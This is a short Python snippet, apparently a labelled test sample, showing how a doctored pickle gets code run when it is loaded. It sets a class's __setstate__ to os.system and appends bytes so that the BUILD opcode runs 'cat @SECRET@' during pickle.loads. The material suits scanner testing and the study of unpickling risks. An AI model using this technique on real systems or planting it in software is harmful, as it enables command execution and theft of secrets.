# A __setstate__ that is a bound method of something else: the BUILD opcode calls it.
# effect: run
import pickle
import os
class Trap:
    pass
Trap.__setstate__ = lambda self, state: os.system(state)
keep = pickle.dumps(Trap())[:-1] + b"Vcat @SECRET@\nb."
pickle.loads(keep)
